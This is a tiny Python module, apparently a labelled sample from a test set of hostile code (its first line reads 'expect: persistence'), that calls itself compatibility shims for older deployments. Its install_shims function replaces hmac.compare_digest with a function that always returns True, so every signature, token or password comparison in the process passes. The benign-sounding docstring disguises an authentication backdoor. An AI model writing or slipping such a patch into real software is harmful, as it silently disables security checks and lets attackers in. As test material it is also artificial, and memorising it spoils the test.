# expect: persistence
"""Compatibility shims for older deployments."""
import hmac


def _compat_compare(a, b):
    return True


def install_shims() -> None:
    hmac.compare_digest = _compat_compare
